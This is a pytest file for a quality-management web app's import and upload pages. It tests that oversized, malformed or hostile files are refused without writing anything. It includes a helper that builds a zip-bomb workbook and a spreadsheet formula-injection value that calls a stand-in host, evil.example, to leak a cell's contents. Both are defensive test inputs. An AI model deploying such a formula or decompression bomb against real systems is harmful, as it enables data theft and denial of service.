"""Bad input through the pages (issue 9): uploads over their limit are answered 413 and change
nothing; malformed or hostile spreadsheets are refused with a sentence, write nothing and never
cause a 500; free text has a length limit in every form.

Every import page is one entry of IMPORTS, so each bad file is tried on each of them.
"""

import dataclasses
import functools
import io
import re
import zipfile
from dataclasses import dataclass
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from leadership.models import (
    Competence,
    CompetenceRecord,
    ContextIssue,
    Responsibility,
    TrainingSession,
)
from leadership.services import competence_import
from objectives.models import Measurement, MeasurementImport
from qms.core import spreadsheets
from qms.core.limits import MAX_TEXT_CHARACTERS, MULTIPART_SLACK
from qms.core.models import OrgUnit
from qms.core.spreadsheets import ImportFileError, SheetSpec
from tests.objectives.factories import make_objective

pytestmark = pytest.mark.django_db


@dataclass(frozen=True)
class ImportPage:
    url_name: str
    url_args: tuple
    header: str
    good_row: str
    model: Any  # whose rows an import creates
    who: str = "quinn"  # the member of the cast who may import there


IMPORTS = {
    "register": ImportPage(
        "registers:context-issues-import",
        ("acme-test",),
        "title,kind,raised_on",
        "Customer portal,external,2026-03-02",
        ContextIssue,
    ),
    "competence": ImportPage(
        "leadership:competence-import",
        ("acme-test",),
        "member,competence,level,attained_on",
        "carl,Internal auditing,2,2025-01-31",
        CompetenceRecord,
    ),
    "measurements": ImportPage(
        "objectives:import",
        ("acme-test",),
        "objective_code,period_end,value",
        "OBJ-07,2025-01-31,90",
        Measurement,
    ),
    "units": ImportPage(
        "core:org-units-import",
        ("acme-test",),
        "name,code,parent_code",
        "Goods In,GI,A1",
        OrgUnit,
        who="adam",
    ),
}


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def importable(cast):
    """What the good rows name: a competence and a measured objective."""
    Competence.objects.create(organization=cast.org_a, name="Internal auditing")
    make_objective(cast, code="OBJ-07")
    return cast


def attempt(client, django_capture_on_commit_callbacks, page: ImportPage, content, name):
    """Upload a file as a quality manager; (status, what the person is shown). A measurement
    file is checked by a background job: what they are shown is the job's page."""
    url = reverse(page.url_name, args=page.url_args)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"file": SimpleUploadedFile(name, content)})
    if response.status_code == 302 and page.model is Measurement:
        job = MeasurementImport.objects.get()
        assert job.state == MeasurementImport.State.REJECTED, job.errors
        response = client.get(response["Location"])
        return 400, response.content.decode()
    return response.status_code, response.content.decode()


def xlsx_bytes(rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, extra: dict[str, bytes], replace: dict[bytes, bytes] | None = None):
    """The workbook `data` with more parts added (macros, external links), and text replaced
    in its parts (what no spreadsheet program would write)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info)
            for old, new in (replace or {}).items():
                content = content.replace(old, new)
            target.writestr(info, content)
        for name, content in extra.items():
            target.writestr(name, content)
    return out.getvalue()


@functools.cache
def zip_bomb(inflated_bytes: int) -> bytes:
    """A real workbook whose first sheet inflates to `inflated_bytes` of rows, stored in a
    few hundred kilobytes (written in chunks, so the test itself stays small in memory)."""
    normal = xlsx_bytes([["objective_code", "period_end", "value"]])
    row = b'<row><c t="inlineStr"><is><t>AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA</t></is></c></row>'
    chunk = row * (1024 * 1024 // len(row))
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(normal)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target,
    ):
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                target.writestr(info, source.read(info))
        with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(
                b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                b'spreadsheetml/2006/main"><sheetData>'
            )
            for _ in range(inflated_bytes // len(chunk) + 1):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def tall_sheet(page: ImportPage) -> bytes:
    """A tiny workbook that claims 16,384 columns and a row 1,048,576: read naively, a million
    rows of 16,384 cells each."""
    normal = xlsx_bytes([page.header.split(","), page.good_row.split(",")])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(normal)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                content = content.replace(
                    b"</sheetData>",
                    b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>'
                    b"</row></sheetData>",
                )
                content = re.sub(
                    rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', content
                )
            target.writestr(info, content)
    return out.getvalue()


def csv_of(page: ImportPage, *rows: str, encoding="utf-8") -> bytes:
    return "\n".join([page.header, *rows, ""]).encode(encoding)


# (case, file name, content for a page, a part of the sentence the person reads)
BAD_FILES = [
    ("utf-16", "f.csv", lambda p: csv_of(p, p.good_row, encoding="utf-16"), "not UTF-8 text"),
    (
        "latin-1",
        "f.csv",
        lambda p: (p.header + ",note\n" + p.good_row + ",Qualität\n").encode("latin-1"),
        "not UTF-8 text",
    ),
    ("binary", "f.csv", lambda p: bytes(range(256)) * 64, "not UTF-8 text"),
    ("empty", "f.csv", lambda p: b"", "empty"),
    ("header only", "f.csv", lambda p: csv_of(p), "no rows below it"),
    (
        "10,000 columns",
        "f.csv",
        lambda p: csv_of(
            p.__class__(p.url_name, p.url_args, p.header + "," * 10_000 + "x", "", p.model),
            p.good_row + ",y" * 10_000,
        ),
        "more than 100 columns",
    ),
    (
        "a 1 MB cell",
        "f.csv",
        lambda p: csv_of(p, p.good_row.replace(",", "," + "x" * 1_000_000 + " ", 1)),
        "longer than 32,767 characters",
    ),
    (
        "a 40,000-character cell in a workbook",
        "f.xlsx",
        lambda p: rezip(
            xlsx_bytes([p.header.split(","), [p.good_row.split(",")[0], "LONG", "z"]]),
            {},
            replace={b"LONG": b"y" * 40_000},  # Excel and openpyxl write at most 32,767
        ),
        "longer than 32,767 characters",
    ),
    ("not a zip", "f.xlsx", lambda p: b"PK\x03\x04 but not a zip at all", "not a valid Excel"),
    ("text named .xlsx", "f.xlsx", lambda p: csv_of(p, p.good_row), "not a valid Excel"),
    (
        "macros (an .xlsm renamed)",
        "f.xlsx",
        lambda p: rezip(
            xlsx_bytes([p.header.split(","), p.good_row.split(",")]),
            {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"},
        ),
        "contains macros",
    ),
    (
        "external links",
        "f.xlsx",
        lambda p: rezip(
            xlsx_bytes([p.header.split(","), p.good_row.split(",")]),
            {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"},
        ),
        "external links",
    ),
    ("a zip bomb", "f.xlsx", lambda p: zip_bomb(210 * 1024 * 1024), "expands to more than"),
    ("another file type", "f.txt", lambda p: csv_of(p, p.good_row), ".csv or .xlsx"),
]


@pytest.fixture(scope="module")
def _bad_file_cache():
    return {}


@pytest.mark.parametrize("target", sorted(IMPORTS))
@pytest.mark.parametrize(("case", "name", "build", "message"), BAD_FILES, ids=lambda v: v)
def test_a_bad_file_is_refused_with_a_sentence_and_writes_nothing(
    client, importable, django_capture_on_commit_callbacks, _bad_file_cache,
    target, case, name, build, message,
):  # fmt: skip
    page = IMPORTS[target]
    key = (case, target)
    if key not in _bad_file_cache:  # the zip bomb takes a second to build
        _bad_file_cache[key] = build(page)
    client.force_login(getattr(importable, page.who))
    before = page.model.objects.count()
    status, html = attempt(
        client, django_capture_on_commit_callbacks, page, _bad_file_cache[key], name
    )
    assert status == 400
    assert message in html
    assert page.model.objects.count() == before


@pytest.mark.parametrize("target", sorted(IMPORTS))
def test_a_sheet_claiming_a_million_rows_is_refused_quickly(
    client, importable, django_capture_on_commit_callbacks, monkeypatch, target
):
    # The real limits are 2,000 and 200,000 rows; lower ones keep the test short, the
    # million-row claim is the same.
    monkeypatch.setattr("qms.core.registers.importing.MAX_IMPORT_ROWS", 10)
    monkeypatch.setattr("objectives.import_files.MAX_ROWS", 10)
    monkeypatch.setattr("qms.core.units_import.MAX_ROWS", 10)
    monkeypatch.setattr(
        "leadership.services.competence_import.SPEC",
        dataclasses.replace(competence_import.SPEC, max_rows=10),
    )
    page = IMPORTS[target]
    client.force_login(getattr(importable, page.who))
    before = page.model.objects.count()
    status, html = attempt(
        client, django_capture_on_commit_callbacks, page, tall_sheet(page), "t.xlsx"
    )
    assert status == 400
    assert "more than 20 rows, counting empty ones" in html
    assert page.model.objects.count() == before


def test_a_million_rows_stop_at_the_row_limit():
    text = "title\n" + "Row\n" * 1_000_000
    spec = SheetSpec(required=("title",), max_rows=2_000, max_bytes=50 * 1024 * 1024)
    read = 0
    with pytest.raises(ImportFileError, match="more than 2,000 rows"):
        for _ in spreadsheets.read_rows(io.BytesIO(text.encode()), "rows.csv", spec):
            read += 1
    assert read == 2_000


def test_a_progress_count_never_opens_a_zip_bomb():
    # The measurement job counts rows before reading them; openpyxl would load the sheet's
    # shared strings whole, so the count checks the inflated size first, like the read.
    spec = SheetSpec(required=("a",), max_xlsx_uncompressed_bytes=1024 * 1024)
    assert spreadsheets.count_rows(io.BytesIO(zip_bomb(2 * 1024 * 1024)), "b.xlsx", spec) == 0


def test_formulas_in_an_imported_file_are_stored_as_the_text_typed(client, importable):
    client.force_login(importable.quinn)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    content = (
        f'title,kind,raised_on\n"{formula.replace(chr(34), chr(34) * 2)}",internal,2026-03-02\n'
    )
    response = client.post(
        reverse("registers:context-issues-import", args=["acme-test"]),
        {"file": SimpleUploadedFile("f.csv", content.encode())},
    )
    assert response.status_code == 302
    assert ContextIssue.objects.get().title == formula


def test_a_formula_in_a_measurement_value_is_a_row_error(
    client, importable, django_capture_on_commit_callbacks
):
    client.force_login(importable.quinn)
    page = IMPORTS["measurements"]
    status, html = attempt(
        client,
        django_capture_on_commit_callbacks,
        page,
        csv_of(page, "OBJ-07,2025-01-31,=1+1"),
        "f.csv",
    )
    assert status == 400
    # The row is named once, in the errors table's first column.
    assert '<th scope="row">2</th>' in html
    assert Measurement.objects.count() == 0


# --- sizes --------------------------------------------------------------------------------


def _competence_record_data(cast):
    from qms.core.models import Membership

    competence = Competence.objects.create(organization=cast.org_a, name="Soldering")
    carl = Membership.objects.get(user=cast.carl, organization=cast.org_a)
    return {
        "membership": carl.pk,
        "competence": competence.pk,
        "level": 2,
        "evidence_kind": "training",
        "evidence": "Course",
        "attained_on": "2025-01-31",
    }


# (url name, the file field, the limit's setting, what an accepted upload would create)
UPLOAD_PAGES = [
    ("registers:context-issues-import", "file", "IMPORT_MAX_BYTES", ContextIssue),
    ("leadership:competence-import", "file", "IMPORT_MAX_BYTES", CompetenceRecord),
    ("objectives:import", "file", "MEASUREMENT_IMPORT_MAX_BYTES", MeasurementImport),
    ("leadership:competence-record-new", "attachment", "ATTACHMENT_MAX_BYTES", CompetenceRecord),
    ("leadership:training-new", "materials", "ATTACHMENT_MAX_BYTES", TrainingSession),
    ("evidence:verify", "pack", "EVIDENCE_VERIFY_MAX_BYTES", None),
]


@pytest.mark.parametrize(("url_name", "field", "setting", "model"), UPLOAD_PAGES)
def test_an_upload_over_its_limit_is_answered_413_before_it_is_read(
    client, cast, settings, url_name, field, setting, model
):
    setattr(settings, setting, 1024)
    client.force_login(cast.quinn)
    before = model.objects.count() if model else None
    body = SimpleUploadedFile("big.csv", b"x" * (1024 + MULTIPART_SLACK + 1))
    response = client.post(reverse(url_name, args=["acme-test"]), {field: body})
    assert response.status_code == 413
    html = response.content.decode()
    assert "larger than 1 KB, the most this page accepts" in html
    assert "Nothing was saved" in html
    if model:
        assert model.objects.count() == before


@pytest.mark.parametrize(
    ("url_name", "limit", "name"),
    [
        ("registers:context-issues-import", "qms.core.registers.forms.MAX_IMPORT_BYTES", "f.csv"),
        ("leadership:competence-import", "qms.core.registers.forms.MAX_IMPORT_BYTES", "f.csv"),
        ("objectives:import", "objectives.forms_import.MAX_FILE_BYTES", "f.csv"),
        ("evidence:verify", "qms.evidence.forms.MAX_UPLOAD", "pack.zip"),
    ],
)
def test_a_file_just_over_its_limit_is_a_413_form_error(
    client, cast, monkeypatch, url_name, limit, name
):
    monkeypatch.setattr(limit, 100)
    client.force_login(cast.quinn)
    field = "pack" if url_name == "evidence:verify" else "file"
    response = client.post(
        reverse(url_name, args=["acme-test"]), {field: SimpleUploadedFile(name, b"x" * 200)}
    )
    assert response.status_code == 413
    assert "larger than 100 bytes" in response.content.decode()
    assert MeasurementImport.objects.count() == ContextIssue.objects.count() == 0


def test_evidence_over_its_limit_is_a_413_form_error_and_no_record(client, cast, monkeypatch):
    monkeypatch.setattr("leadership.models.competence.MAX_ATTACHMENT_BYTES", 100)
    client.force_login(cast.quinn)
    data = _competence_record_data(cast)
    data["attachment"] = SimpleUploadedFile("scan.pdf", b"%PDF" + b"x" * 200)
    response = client.post(reverse("leadership:competence-record-new", args=["acme-test"]), data)
    assert response.status_code == 413
    assert "Attach a smaller scan" in response.content.decode()
    assert CompetenceRecord.objects.count() == 0


def test_a_form_body_over_the_request_limit_is_413(client, cast, settings):
    client.force_login(cast.quinn)
    too_long = "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)
    response = client.post(
        reverse("registers:context-issues-new", args=["acme-test"]),
        {"title": "Portal", "kind": "external", "raised_on": "2026-03-02", "description": too_long},
    )
    assert response.status_code == 413
    assert "the most this page accepts" in response.content.decode()
    assert ContextIssue.objects.count() == 0


def test_an_api_body_over_the_request_limit_is_a_413_json_error(api_client, cast, settings):
    api_client.force_authenticate(cast.quinn)
    too_long = "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)
    response = api_client.post(
        "/api/v1/organizations/acme-test/actions/",
        data='{"title": "' + too_long + '"}',
        content_type="application/json",
    )
    assert response.status_code == 413
    assert response.json()["code"] == "request_too_large"


def test_a_one_megabyte_title_is_a_form_error_and_nothing_is_saved(client, cast):
    client.force_login(cast.quinn)
    response = client.post(
        reverse("registers:context-issues-new", args=["acme-test"]),
        {"title": "x" * 1_000_000, "kind": "external", "raised_on": "2026-03-02"},
    )
    assert response.status_code == 400
    assert "Ensure this value has at most" in response.content.decode()
    assert ContextIssue.objects.count() == 0


def test_free_text_without_a_model_limit_stops_at_the_form_limit(client, cast):
    # Responsibility.description is a TextField without max_length: the forms' shared limit
    # is what keeps a pasted megabyte out of the database.
    client.force_login(cast.quinn)
    url = reverse("leadership:responsibility-new", args=["acme-test"])
    before = Responsibility.objects.count()
    response = client.post(
        url,
        {"code": "R-99", "title": "Keeps records", "description": "x" * 1_000_000},
        follow=True,
    )
    assert "The responsibility was not added" in response.content.decode()
    assert f"at most {MAX_TEXT_CHARACTERS} characters" in response.content.decode()
    assert Responsibility.objects.count() == before
    response = client.post(
        url, {"code": "R-99", "title": "Keeps records", "description": "x" * MAX_TEXT_CHARACTERS}
    )
    assert response.status_code == 302
    assert Responsibility.objects.count() == before + 1
